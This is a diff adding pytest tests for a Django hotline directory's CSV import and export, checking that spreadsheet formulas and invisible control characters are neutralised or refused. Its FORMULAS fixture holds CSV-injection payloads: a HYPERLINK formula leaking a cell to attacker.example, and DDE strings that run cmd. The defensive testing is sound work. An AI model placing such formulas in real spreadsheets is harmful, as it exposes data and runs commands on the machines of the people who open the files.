@@ -21,6 +21,7 @@ from hotlines.csvio import (
 )
 from hotlines.keys import derived_key
 from hotlines.models import ContactMethod, Service
+from tests.factory import make_service
 
 pytestmark = pytest.mark.django_db
 
@@ -513,3 +514,79 @@ def test_a_bad_number_from_abroad_is_refused(cells: str, expected: str) -> None:
         import_csv(f"{header}\r\n{GOOD}{cells}\r\n")
     assert f"line 2: {expected}" in str(failure.value)
     assert Service.objects.count() == 0
+
+
+# --- spreadsheet formulas (CSV injection) --------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?leak="&A1,"Call now")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+cmd|' /C notepad'!A0",
+]
+
+
+def test_the_export_neutralises_formulas_and_keeps_numbers_exact() -> None:
+    for number, formula in enumerate(FORMULAS):
+        # Typed in the admin by a curator whose account was taken over, say.
+        make_service(formula, country="GB", phone=f"+44 20 7946 000{number}")
+    rows = exported_rows()
+    assert sorted(row["name"] for row in rows) == sorted(f"'{f}" for f in FORMULAS)
+    assert sorted(row["phone"] for row in rows) == [f"+44 20 7946 000{n}" for n in range(4)]
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "@", "\t", "\r")), (column, cell)
+            assert not cell.startswith(("+", "-")) or re.fullmatch(r"[+\-][0-9 ]+", cell)
+
+
+def test_numbers_and_guarded_cells_round_trip_exactly() -> None:
+    make_service("Samaritans", country="GB", phone="+44 20 7946 0000")
+    instructions = make_service("Line with a menu", country="GB", phone="+44 20 7946 0001")
+    instructions.contact_methods.filter(kind="phone").update(instructions="then press 1")
+    first = export_text()
+    assert "+44 20 7946 0000," in first
+    assert "'+44 20 7946 0001 (then press 1)" in first  # letters after a "+": guarded
+    Service.objects.all().delete()
+    assert import_csv(first).created == 2
+    assert export_text() == first
+    phones = set(ContactMethod.objects.filter(kind="phone").values_list("value", "instructions"))
+    assert phones == {("+44 20 7946 0000", ""), ("+44 20 7946 0001", "then press 1")}
+
+
+def test_the_import_refuses_formulas_in_text_columns_by_line() -> None:
+    rows = []
+    for formula in FORMULAS:
+        cells = next(csv.reader([GOOD]))
+        cells[2] = formula  # name
+        rows.append(cells)
+    cells = next(csv.reader([GOOD]))
+    cells[7] = "\t=1+1"  # hours, led by a tab
+    rows.append(cells)
+    cells = next(csv.reader([GOOD]))
+    cells[11] = "confidence: high. Fine"
+    cells[8] = "@de"  # languages
+    rows.append(cells)
+    out = io.StringIO(newline="")
+    writer = csv.writer(out)
+    writer.writerow(HEADER)
+    for number, cells in enumerate(rows):
+        cells[4] = f"0800 111 0 11{number}"
+        writer.writerow(cells)
+    with pytest.raises(ImportFailed) as failed:
+        import_csv(out.getvalue())
+    text = str(failed.value)
+    for line, lead in ((2, "“=”"), (3, "“@”"), (4, "“-”"), (5, "“+”")):
+        assert f"line {line}: name: starts with {lead}, which a spreadsheet would run" in text
+    assert "line 6: hours: starts with a tab" in text
+    assert "line 7: languages: starts with “@”" in text
+    assert not Service.objects.exists()
+
+
+def test_the_import_refuses_control_characters() -> None:
+    cells = next(csv.reader([GOOD]))
+    cells[2] = "Telefon\u202eseelsorge"
+    out = io.StringIO(newline="")
+    csv.writer(out).writerows([HEADER, cells])
+    with pytest.raises(ImportFailed) as failed:
+        import_csv(out.getvalue())
+    assert "line 2: name: holds an invisible control character" in str(failed.value)
